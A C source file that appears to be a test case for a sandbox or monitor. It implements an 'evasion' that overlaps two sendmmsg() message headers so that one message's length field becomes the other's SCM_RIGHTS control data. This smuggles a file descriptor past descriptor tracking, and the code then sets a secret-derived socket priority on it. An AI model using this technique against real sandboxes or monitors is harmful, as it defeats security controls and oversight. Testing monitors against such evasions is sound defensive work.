/* Evasion: of two messages that are sent by one call, the first one's length is written where the second one's descriptor stands: that is
 * then one of the snapshot, which the request gets under a number that nobody knows. */
#include "kept_pair.h"

/* The descriptor in the next message. */
static int taken(int from)
{
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control;
    char bytes[SECRET_SIZE];
    int fd = -1;
    struct iovec part = {bytes, sizeof bytes};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    check(recvmsg(from, &message, MSG_CMSG_CLOEXEC) > 0, "recvmsg");
    if (message.msg_controllen > 0)
        memcpy(&fd, CMSG_DATA(&control.header), sizeof fd);
    return fd;
}

static void handle(const char *secret)
{
    static char bytes[SECRET_SIZE];
    int pair[2], pipes[2], found = priority_of(kept[0]), wanted = 1 + secret[strlen(secret) - 1] % 5;
    check(pipe2(pipes, O_CLOEXEC) == 0 && socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair) == 0, "pair");
    struct iovec as_long_as_its_number = {bytes, (size_t)kept[0]}, one = {bytes, 1};
    struct mmsghdr *messages = (struct mmsghdr *)map_anonymous(NULL, PAGE);
    char *begin = (char *)messages;
    /* The end of the first header, and the length behind it, are control data of the second. */
    struct cmsghdr header = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
    memcpy(begin + 2048, &header, sizeof header);
    memcpy(begin + 2048 + sizeof header, &pipes[0], sizeof(int));
    messages[0].msg_hdr =
        (struct msghdr){.msg_iov = &as_long_as_its_number, .msg_iovlen = 1, .msg_control = begin + 2048};
    messages[1].msg_hdr = (struct msghdr){.msg_iov = &one,
        .msg_iovlen = 1,
        .msg_control = begin + offsetof(struct msghdr, msg_controllen),
        .msg_controllen = CMSG_LEN(sizeof(int))};
    memcpy(begin + offsetof(struct msghdr, msg_controllen), begin + 2048, CMSG_LEN(sizeof(int)));
    check(sendmmsg(pair[1], messages, 2, 0) == 2, "sendmmsg");
    check(taken(pair[0]) >= 0, "a pipe");
    int same = taken(pair[0]);
    check(same >= 0 && setsockopt(same, SOL_SOCKET, SO_PRIORITY, &wanted, sizeof wanted) == 0, "setsockopt");
    answer("{\"priority\":%d}", found);
}
